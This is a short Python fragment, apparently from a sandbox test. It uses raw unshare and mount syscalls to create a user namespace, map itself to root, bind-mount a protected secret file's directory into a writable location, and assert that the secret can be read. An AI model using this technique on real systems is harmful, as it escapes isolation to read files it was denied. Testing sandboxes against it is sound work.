syscall(272, 0x10020000)
open('/proc/self/setgroups','w').write('deny'); open('/proc/self/uid_map','w').write(f'0 {E["TEST_UID"]} 1')
os.mkdir(E['WRITE']+'/m'); syscall(165, os.path.dirname(E['SECRET_FILE']).encode(), (E['WRITE']+'/m').encode(), b'none', 4096, 0)
assert SECRET in read(E['WRITE']+'/m/secret')
